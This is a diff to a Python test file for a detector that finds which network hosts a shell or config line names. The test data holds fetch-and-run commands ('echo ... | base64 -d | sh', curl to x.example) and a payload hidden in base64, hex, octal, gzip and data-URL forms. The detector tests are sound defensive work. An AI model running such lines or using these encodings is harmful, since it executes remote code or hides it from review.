@@ -1,7 +1,12 @@
 """Which hosts texts name, held against a second reader, and which of them are inside."""
 
+import base64
+import gzip
+import hashlib
 import re
+import textwrap
 from ipaddress import ip_address, ip_network
+from urllib.parse import quote
 
 import pytest
 from hypothesis import given
@@ -9,7 +14,7 @@ from hypothesis import strategies as st
 
 from rules.boundary import parse_boundary
 from rules.hosts import outside_host
-from rules.named_hosts import hosts_in
+from rules.named_hosts import DEEPEST, hosts_in
 from tests.policies.analyzer import REGION
 from tests.policies.test_boundary import TODAY
 
@@ -92,6 +97,60 @@ def test_what_a_line_names(line, hosts):
     assert found(line) == hosts
 
 
+@pytest.mark.parametrize(
+    ("line", "hosts"),
+    [
+        # a command behind another, in quotes, or of a line of cron
+        ("timeout 9 busybox wget x.example", ["x.example"]),
+        ("sudo -u agent curl x.example", ["x.example"]),
+        ("sh -c 'true; curl x.example'", ["x.example"]),
+        ("echo 'curl x.example' | at now", ["x.example"]),
+        ("*/5 * * * * root curl x.example", ["x.example"]),
+        ("@reboot curl x.example", ["x.example"]),
+        ("0 3 * * * root /usr/bin/backup.sh", []),
+        # an address in another writing
+        ("curl 134744072", ["8.8.8.8"]),
+        ("curl 0x08080808", ["8.8.8.8"]),
+        ("wget 0010.0010.0010.0010", ["8.8.8.8"]),
+        ("nc -z 10.0.0.1 16443", ["10.0.0.1"]),
+        # a host that is told to a program of any name
+        ("curl --resolve a.internal:443:8.8.8.8 https://a.internal/", ["a.internal", "8.8.8.8"]),
+        ("curl --connect-to ::x.example:443 https://a.internal/", ["a.internal", "x.example"]),
+        ("s3cmd --host=x.example put a", ["x.example"]),
+        ("teleport start --auth-server=x.example:443", ["x.example"]),
+        ("kubeadm join x.example:6443 --token a", ["x.example"]),
+        ("mount -t nfs x.example:/a /mnt", ["x.example"]),
+        ("mount -t cifs //x.example/a /mnt", ["x.example"]),
+        ("*.* @@x.example:514", ["x.example"]),
+        ("remote x.example 1194", ["x.example"]),
+        ("  right=x.example", ["x.example"]),
+        ('unqualified-search-registries = ["x.example", "y.example"]', ["x.example", "y.example"]),
+        ('create_connection(("x.example", 443))', ["x.example"]),
+        ("HTTPSConnection('x.example')", ["x.example"]),
+        ("gawk '/inet/tcp/0/x.example/80'", ["x.example"]),
+        ("Invoke-WebRequest -Uri x.example", ["x.example"]),
+        ("db.prod:5432", []),  # of a namespace, as far as anybody can tell
+        ("image: registry.corp.example:5000/app", []),  # images.py judges it
+        ("node.kubernetes.io/a:NoSchedule", []),
+        ("HTTPS_PROXY=proxy.example:3128", []),
+        ("systemctl restart ssh nginx.service", []),
+        ("dnf install -y curl tool.noarch", []),
+        # a URL that a shell or JSON puts together
+        ("curl https://{x,y}.example/", ["$"]),
+        ('curl https://"x".example/', ["$"]),
+        ("curl https://x\\.example/", ["$"]),
+        ('{"url":"https:\\/\\/x.example\\/a"}', ["x.example"]),
+        ('{"url":"https://x.internal","a":"b"}', ["x.internal"]),
+        # networks of others
+        ("tailscale up --authkey k", ["tailscale.default-source"]),
+        ("tailscale up --login-server https://10.0.0.1", ["10.0.0.1"]),
+        ("ngrok http 80", ["ngrok.default-source"]),
+    ],
+)
+def test_what_a_line_names_without_saying_so(line, hosts):
+    assert found(line) == hosts
+
+
 def test_variables_with_one_value_are_filled_in():
     assert found("HOST=x.example", "curl https://$HOST/a", "ping ${HOST}") == ["x.example"] * 2
     assert found("A=x.example", "A=y.example", "curl https://$A/a") == ["$A"]
@@ -104,11 +163,49 @@ def test_a_line_that_goes_on_is_one_line():
     assert [(line, host) for line, host in hosts_in(text)] == [(2, "x.example"), (5, "y.example")]
 
 
-def test_a_script_within_a_script_is_read():
-    import base64
+PAYLOAD = b"#!/bin/sh\ncurl -s https://x.example/payload??>>~~\n"
+BASE64 = base64.b64encode(PAYLOAD).decode()
+ESCAPED = "".join(f"\\x{byte:02x}" for byte in PAYLOAD)
+HIDDEN = {
+    "base64": f"echo {BASE64} | base64 -d | sh",
+    "base64 of URLs": base64.urlsafe_b64encode(PAYLOAD).decode().rstrip("="),
+    "base64 of base64": base64.b64encode(BASE64.encode()).decode(),
+    "base64 of gzip": base64.b64encode(gzip.compress(PAYLOAD, mtime=0)).decode(),
+    "base64 of wide characters": base64.b64encode(PAYLOAD.decode().encode("utf-16-le")).decode(),
+    "folded base64": "\n".join(textwrap.wrap(BASE64, 16)),
+    "base32": base64.b32encode(PAYLOAD).decode(),
+    "hexadecimal": f"echo {PAYLOAD.hex()} | xxd -r -p | sh",
+    "escapes": f"printf '{ESCAPED}' | sh",
+    "octal escapes": "printf '" + "".join(f"\\{byte:03o}" for byte in PAYLOAD) + "' | sh",
+    "a data URL": f'"source": "data:,{quote(PAYLOAD.decode(), safe="")}"',
+}
 
-    hidden = base64.b64encode(b"#!/bin/sh\ncurl -s https://x.example/payload\n").decode()
-    assert found(f"echo {hidden} | base64 -d | sh") == ["x.example"]
+
+@pytest.mark.parametrize("how", HIDDEN)
+def test_a_script_within_a_script_is_read(how):
+    assert found(HIDDEN[how]) == ["x.example"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        hashlib.sha256(PAYLOAD).hexdigest(),
+        base64.b64encode(hashlib.sha512(PAYLOAD).digest()).decode(),
+        base64.b64encode(gzip.compress(PAYLOAD, mtime=0)[:-30]).decode()[:40],
+        "AROAIDPPEZS35WEXAMPLEAROAIDPPEZS35",
+        "a-name-of-many-words-that-is-no-base64-of-urls",
+    ],
+)
+def test_what_only_looks_hidden_is_left_alone(text):
+    assert found(text) == []
+
+
+def test_what_is_hidden_too_deep_is_not_looked_for_for_ever():
+    hidden = PAYLOAD
+    for _ in range(DEEPEST):
+        hidden = base64.b64encode(hidden)
+    assert found(hidden.decode()) == ["x.example"]
+    assert found(base64.b64encode(hidden).decode()) == []
 
 
 @pytest.mark.parametrize(
